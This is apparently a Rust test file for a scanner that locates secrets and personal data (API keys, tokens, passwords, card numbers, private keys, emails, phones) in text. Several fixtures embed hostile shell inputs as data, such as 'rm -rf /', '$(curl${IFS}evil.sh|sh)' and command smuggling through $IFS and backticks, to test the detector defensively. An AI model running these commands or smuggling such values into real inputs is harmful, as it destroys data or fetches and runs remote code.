//! Where things are found: exactly their own characters.

use alloc::format;
use alloc::string::String;
use alloc::vec::Vec;

use super::super::{Findings, joined, scan, spans, spans_under};
use super::written;

/// Finds what stands between `<` and `>`, and nothing else.
#[track_caller]
fn finds(line: &str) {
    let line = written(line);
    let text: String = line.chars().filter(|c| !matches!(c, '<' | '>')).collect();
    let found = joined(spans(&text).into_iter().map(|span| span.range));
    assert_eq!(marked(&text, &found), line);
}

fn marked(text: &str, found: &[core::ops::Range<usize>]) -> String {
    let mut out = String::from(text);
    // From the end, so that the places that are left stay where they are.
    for range in found.iter().rev() {
        out.insert(range.end, '>');
        out.insert(range.start, '<');
    }
    out
}

#[test]
fn a_place_is_the_secret_alone() {
    for line in [
        "a <sk-~ant-api03-Zq01Xw7Lp9Rt3Zq01Xw7Lp9Rt3Zq01Xw7Lp9Rt3> b",
        "x_<glpat-~Zq22Xw7Lp9Rt3Zq22Xw7>.txt",
        "x-<eyJ~hbGciOiJIUzI1NiJ9.eyJ~zdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36>!",
        r"a\n<ghp_~0123456789abcdefghijklmnopqrstuvwxyz>",
        "<AKIA~IOSFODNN7EXAMPLE>:x",
        "x_<AIza~Zq19Xw7Lp9Rt3Zq19Xw7Lp9Rt3Zq19Xw7Lp>",
        "https://hooks.slack.com/services/<T0ABCDEFG/B0ABCDEFG/~abcdefghijklmnopqrstuvwx>",
        "Authorization: Bearer <abcdef0123456789abcdef> x",
        "https://ada:<hunter2pass>@example.com/a",
        "mysql -u a --password <hunter2pass> -h b",
        "{\"password\": \"<hunter2pass>\"}",
        "token=<a1b2c3d4e5f6a7b8>&to=b",
        "password=<hunter2pass>, and so on",
        "ssn <536-90-4399> ok",
        "card <4111 1111 1111 1111>, 12/29",
        "mail <jane.roe@example.com>.",
        "mail <josé@example.com>.",
        "call +<1 415 555 0132> now",
        "call (<415) 555-0132> now",
        "tel: <030 901820-12>",
        "?to=<jane%40example.com>&x",
    ] {
        finds(line);
    }
}

#[test]
fn what_is_hidden_within_a_secret_belongs_to_it() {
    finds("x <4111\u{200B}1111\u{200B}11111111>\u{200B} y");
    finds("\u{200B}<4111\u{A0}1111\u{202F}1111\u{2009}1111>");
    finds("é\u{200B} password=<hunter\u{AD}2pass>\u{200B} é");
}

#[test]
fn a_long_value_is_found_to_its_end() {
    let long = "a1b2C3".repeat(100);
    finds(&format!("password=<{long}>;x"));
    finds(&format!("password=\"<{long}>\" x"));
    finds(&format!("x-<sk-~proj-{long}> x"));
    finds(&format!("é-<sk-~proj-{long}>\u{200B}"));
}

#[test]
fn a_command_in_a_value_is_no_part_of_the_secret() {
    for line in [
        "password=\"rm -rf / <a1b2c3d4e5> now\"",
        "token=//evil.example/<a1b2c3d4e5f6a7b8c9d0>",
        "rm$IFS/etc;API_KEY=<aaaaaaaa11112222bbbb>;ls",
        "<-----BEGIN PRIVATE KEY----->\nrm -rf /",
        "password=\"<a1>$(touch${IFS}/tmp/x)\" true",
        "password=\"<a1>`reboot`\" ./run",
        "password=\"<a1>$(curl${IFS}evil.sh|sh)\" ./run",
        "API_KEY=\"<aaaa1111>$(reboot)<bbbb2222>\"",
        "curl http://u:<a>$(reboot)@h/",
        "curl http://u:<p>;rm${IFS}-rf${IFS}x;@h",
        "echo x://a:;reboot;@b",
        "password=\"<a1b2c3>',role='admin\"",
        "password=\"<x1> touch /tmp/x; python3 y\"",
        "password=\";python3 /a;md5 x1\"",
    ] {
        finds(line);
    }
}

/// The characters that part or begin commands. A blank may stand between the digits of a number, and anything
/// within a private key.
fn is_command_mark(character: char) -> bool {
    character.is_whitespace() || "`$(){};|&<>'\"\\".contains(character)
}

#[test]
fn no_place_holds_a_sign_of_a_command() {
    const PARTS: [&str; 34] = [
        "password=",
        "\"",
        "'",
        "`",
        "$",
        "(",
        ")",
        "{",
        "}",
        ";",
        "|",
        "&",
        "<",
        ">",
        "\\",
        " ",
        "\n",
        "\t",
        "\u{A0}",
        "\u{2028}",
        "\u{3000}",
        "\u{200B}",
        "\u{FF04}",
        "\u{FF1B}",
        "\u{85}",
        "https://ada:",
        "@b.example/",
        "hunter2x",
        "a1b2c3d4e5",
        "--token ",
        "reboot",
        "sk-~ant-api03-Zq01Xw7Lp9Rt3Zq01Xw7Lp9Rt3",
        "Bearer abcdef0123456789abcdef",
        "4111 1111 1111 1111",
    ];
    let mut next = numbers();
    let mut found = 0;
    for _ in 0..60_000 {
        let count = next(10);
        let text: String = (0..count).map(|_| written(PARTS[next(PARTS.len())])).collect();
        let under = spans_under("password", &text).into_iter().map(|range| (None, range));
        let secrets = spans(&text).into_iter().filter(|span| span.kind.is_secret());
        let spans = secrets.map(|span| (Some(span.kind), span.range));
        for (kind, range) in spans.chain(under) {
            let stretch = text.get(range).unwrap();
            let shown: Vec<char> = stretch.chars().filter(|c| *c != '\u{200B}').collect();
            for (at, character) in shown.iter().enumerate() {
                let digit = |at: usize| shown.get(at).is_some_and(char::is_ascii_digit);
                let gap = character.is_whitespace() && at > 0 && digit(at - 1) && digit(at + 1);
                assert!(gap || !is_command_mark(*character), "{text:?}: {stretch:?} {kind:?}");
            }
            found += 1;
        }
    }
    assert!(found > 10_000, "{found}");
}

/// The same made-up numbers in each run, each below a bound.
fn numbers() -> impl FnMut(usize) -> usize {
    let mut state = 0x2545_F491_4F6C_DD1D_u64;
    move |bound| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state % 1_000_003).unwrap_or(0) % bound
    }
}

#[test]
fn of_a_private_key_its_header_and_its_lines_are_found() {
    let key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC";
    finds(&format!(
        "a\n<-----BEGIN PRIVATE KEY----->\n<{key}\n{key}\nWx1=>\n-----END PRIVATE KEY-----\nb"
    ));
    finds(&format!("<-----BEGIN PRIVATE KEY----->\\n<{key}\\n{key}>\\n-----END PRIVATE KEY-----"));
    finds(&format!(
        "<-----BEGIN RSA PRIVATE KEY----->\nProc-Type: 4,ENCRYPTED\nDEK-Info: x\n\n<{key}>\n"
    ));
}

#[test]
fn a_key_announces_only_what_looks_like_a_secret() {
    #[track_caller]
    fn under(key: &str, line: &str) {
        let text: String = line.chars().filter(|c| !matches!(c, '<' | '>')).collect();
        assert_eq!(marked(&text, &spans_under(key, &text)), line, "{key}");
    }
    for (key, line) in [
        ("password", "<hunter2>"),
        ("dbPassword", "<Tr0ub4dor!>"),
        ("pin", "<1234>"),
        ("otp", "<123456>"),
        ("api_key", "<a1b2c3d4e5>"),
        ("--token", "<a1b2c3d4e5>"),
        ("cookie", "<a1b2c3d4e5f6a7b8>"),
        ("password", "<hun\u{200B}ter2>"),
        ("password", "rm -rf / <a1b2c3d4e5>"),
        ("password", "ls$IFS/<a1b2c3d4e5>"),
        ("session_command", "a1b2c3d4e5"),
        ("password", "rm -rf /"),
        ("password", "rm$IFS-rf$IFS/x"),
        ("password", "reboot"),
        ("password", "drop_table_2"),
        ("pin", "reboot"),
        ("pin", "123456789012"),
        ("token", "0xEVE00112233445566"),
        ("token", "eve@evil.example"),
        ("token", "evil.example"),
        ("secret", "https://evil.example/pay"),
        ("access_token", "DE89370400440532013000"),
        ("token_recipient", "a1b2c3d4e5"),
        ("max_tokens", "a1b2c3d4e5f6a7b8"),
        ("note", "password=<hunter2>@evil.example"),
    ] {
        under(key, line);
    }
}

/// Of any mixture of texts, nothing is found but what [`scan`] finds, at characters of the text, and the rest
/// of the text is put together again.
#[test]
fn places_and_kinds_agree() {
    const PARTS: [&str; 16] = [
        "sk-~ant-api03-Zq01Xw7Lp9Rt3Zq01Xw7Lp9Rt3",
        "4111 1111 1111 1111",
        "4111111111111111",
        "password=\"",
        "hunter2x ",
        "-",
        "_",
        "\u{200B}",
        "é",
        "Bearer abcdef0123456789abcdef",
        "https://ada:hunter2pass@example.com",
        "-----BEGIN PRIVATE KEY-----\n",
        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n",
        "eyJ~hbGciOiJIUzI1NiJ9.eyJ~zdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36",
        "jane.roe@example.com",
        "\u{FF11}",
    ];
    let mut next = numbers();
    for _ in 0..20_000 {
        let count = next(9);
        let text: String = (0..count).map(|_| written(PARTS[next(PARTS.len())])).collect();
        let found = spans(&text);
        let mut kinds = Findings::default();
        let mut last = 0;
        for span in &found {
            kinds.insert(span.kind);
            assert!(span.range.start < span.range.end && last <= span.range.start, "{text:?}");
            assert!(text.get(span.range.clone()).is_some(), "{text:?} {span:?}");
            last = span.range.start;
        }
        // A place may overlap one of another kind, but no character is found that `scan` does not find.
        assert_eq!(kinds.union(scan(&text)), scan(&text), "{text:?}");
        assert_eq!(kinds.is_empty(), scan(&text).is_empty(), "{text:?}");
        let ranges: Vec<_> = joined(found.into_iter().map(|span| span.range));
        let back: String = marked(&text, &ranges).replace(['<', '>'], "");
        assert_eq!(back, text);
    }
}
